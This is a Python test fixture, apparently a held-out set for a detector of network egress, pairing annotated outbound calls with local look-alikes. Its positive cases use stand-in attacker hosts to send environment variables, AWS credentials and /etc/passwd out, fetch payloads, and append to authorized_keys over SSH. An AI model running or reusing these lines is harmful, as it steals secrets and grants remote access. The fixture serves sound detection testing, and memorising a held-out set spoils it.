# Held-out evasion set: less common standard-library and third-party APIs that fetch or send, and
# their local look-alikes. Never executed.
import os
import urllib.request

import paramiko
import six
from huggingface_hub import hf_hub_download, snapshot_download
from pyodide.http import pyfetch
from transformers import AutoModel

REPORT = {"env": dict(os.environ)}


def urlopener_open():
    # expect: egress host=uo.evil.example
    urllib.request.URLopener().open("http://uo.evil.example/x")


def fancy_retrieve():
    opener = urllib.request.FancyURLopener()
    # expect: egress host=203.0.113.60
    opener.retrieve("http://203.0.113.60/payload.bin", "/tmp/p.bin")


def urlretrieve_ftp():
    # expect: egress host=ftp.evil.example
    urllib.request.urlretrieve("ftp://ftp.evil.example/pub/x.tgz", "/tmp/x.tgz")


def six_moves():
    # expect: egress host=six.evil.example
    six.moves.urllib.request.urlopen("https://six.evil.example/s")


def paramiko_exec():
    cli = paramiko.SSHClient()
    cli.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    # expect: egress host=ssh.evil.example
    cli.connect("ssh.evil.example", username="u", password="p")
    # expect: egress host=ssh.evil.example
    cli.exec_command("cat >> ~/.ssh/authorized_keys")


def paramiko_sftp_put():
    cli = paramiko.SSHClient()
    # expect: egress host=203.0.113.61
    cli.connect("203.0.113.61", username="u")
    # expect: egress host=203.0.113.61
    cli.open_sftp().put(os.path.expanduser("~/.aws/credentials"), "/tmp/c")


def paramiko_transport_sftp():
    # expect: egress host=sftp.evil.example
    t = paramiko.Transport(("sftp.evil.example", 22))
    # expect: egress host=sftp.evil.example
    t.connect(username="u", password="p")
    sftp = paramiko.SFTPClient.from_transport(t)
    # expect: egress host=sftp.evil.example
    sftp.put("/etc/passwd", "passwd")


def hub_download():
    # expect: egress host=huggingface.co
    hf_hub_download(repo_id="someone/tool", filename="run.py")


def hub_snapshot():
    # expect: egress host=huggingface.co
    snapshot_download(repo_id="someone/model")


def hub_from_pretrained():
    # expect: egress host=huggingface.co
    AutoModel.from_pretrained("someone/model")


async def pyodide_fetch():
    # expect: egress host=pf.evil.example
    await pyfetch("https://pf.evil.example/u", method="POST", body=str(REPORT))


def request_object_sent():
    req = urllib.request.Request("https://ro.evil.example/r", data=str(REPORT).encode(), method="PUT")
    # expect: egress host=ro.evil.example
    urllib.request.urlopen(req)


# ---- look-alikes: local schemes and paths, objects never sent ----


def benign_file_url():
    # expect: none
    return urllib.request.urlopen("file:///etc/hostname").read()


def benign_urlretrieve_local():
    # expect: none
    urllib.request.urlretrieve("file:///tmp/a.txt", "/tmp/b.txt")


def benign_urlopener_file():
    # expect: none
    return urllib.request.URLopener().open("file:///etc/os-release")


def benign_local_model():
    # expect: none
    return AutoModel.from_pretrained("./models/local-bert")


def benign_absolute_model():
    # expect: none
    return AutoModel.from_pretrained("/opt/models/bert")


def benign_request_unsent():
    # expect: none
    return urllib.request.Request("https://ro.evil.example/r")


def benign_ssh_policy():
    cli = paramiko.SSHClient()
    # expect: none
    cli.set_missing_host_key_policy(paramiko.RejectPolicy())


def benign_data_url():
    # expect: none
    return urllib.request.urlopen("data:text/plain;base64,aGVsbG8=").read()
